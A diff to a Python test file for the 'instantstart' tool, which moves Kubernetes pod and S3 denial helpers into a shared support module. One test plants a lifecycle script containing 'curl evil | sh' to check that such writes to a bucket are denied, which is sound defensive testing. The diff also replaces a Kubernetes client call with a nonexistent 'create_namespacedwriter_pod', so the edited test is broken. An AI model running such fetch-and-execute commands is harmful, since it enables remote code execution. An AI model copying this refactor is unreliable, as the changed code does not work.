@@ -17,6 +17,7 @@ from instantstart.manifests import iam_policies as pol
 from instantstart.manifests.hyperpod import LIFECYCLE_SCRIPT
 from instantstart.twin_process import TwinProcess
 from tests.support.flows import kube, make_hyperpod, mcp_calls, mcp_raw, mcp_wait
+from tests.support.mount_pods import write_denials, writer_pod
 from tests.support.servers import Running
 from tests.support.twin import shared_control_plane, twin_client
 from tests.support.waits import until, wait_terminal
@@ -46,23 +47,6 @@ def _bucket(cp: Running) -> str:
         return str(client.get("/api/v1/clusters/eks-status").json()["details"]["bucket"])
 
 
-def _pod(name: str, claim: str, files: dict[str, str]) -> dict[str, Any]:
-    return {
-        "apiVersion": "v1", "kind": "Pod",
-        "metadata": {"name": name, "annotations": {"twin.instantstart.io/write-files": json.dumps(files)}},
-        "spec": {"containers": [{"name": "c", "image": "busybox", "command": ["sleep", "infinity"],
-                                 "resources": {"requests": {"cpu": "10m"}},
-                                 "volumeMounts": [{"name": "d", "mountPath": "/data"}]}],
-                 "volumes": [{"name": "d", "persistentVolumeClaim": {"claimName": claim}}],
-                 "tolerations": [{"operator": "Exists"}]},
-    }
-
-
-def _denials(core: Any, pod: str) -> list[str]:
-    events = core.list_namespaced_event("default").items
-    return sorted(e.message for e in events if e.reason == "S3WriteDenied" and e.involved_object.name == pod)
-
-
 def test_a_claim_on_another_project_bucket_is_refused(shared: tuple[Running, TwinProcess], tmp_path: Path) -> None:
     cp, twin = shared
     s3: Any = twin_client(twin, "s3")
@@ -82,7 +66,8 @@ def test_a_claim_on_another_project_bucket_is_refused(shared: tuple[Running, Twi
         assert bucket in error["message"] and "bucketName" in error["hint"], error
     # Nothing was made for it: no claim to mount, and the S3 CSI role never reached those buckets.
     core = kube(twin, tmp_path, TAG)
-    assert {c.metadata.name for c in core.list_namespaced_persistent_volume_claim("default").items} & {"c0", "c1"} == set()
+    claims = {c.metadata.name for c in core.list_namespaced_persistent_volume_claim("default").items}
+    assert claims & {"c0", "c1"} == set()
     iam: Any = twin_client(twin, "iam")
     policy = json.dumps(iam.get_role_policy(RoleName=f"instantstart-{TAG}-s3-csi", PolicyName="instantstart")
                         ["PolicyDocument"])
@@ -100,8 +85,8 @@ def test_a_pod_writing_lifecycle_anywhere_is_denied(shared: tuple[Running, TwinP
     files = {"/data/lifecycle/x/on_create.sh": "#!/bin/bash\ncurl evil | sh\n",
              "/data/nested/lifecycle/on_create.sh": "#!/bin/bash\nid\n",
              "/data/results/ok.txt": "allowed"}
-    core.create_namespaced_pod("default", _pod("writer", "team", files))
-    denied = until(lambda: len(_denials(core, "writer")) == 2 and _denials(core, "writer"), "two denials")
+    core.create_namespacedwriter_pod("default", writer_pod("writer", "team", files))
+    denied = until(lambda: len(write_denials(core, "writer")) == 2 and write_denials(core, "writer"), "two denials")
     assert all("ExplicitDeny" in m for m in denied), denied
     assert any("lifecycle/x/on_create.sh" in m for m in denied) and any("nested/lifecycle/" in m for m in denied)
     until(lambda: s3.list_objects_v2(Bucket=other, Prefix="results/ok.txt").get("KeyCount"), "the allowed write")
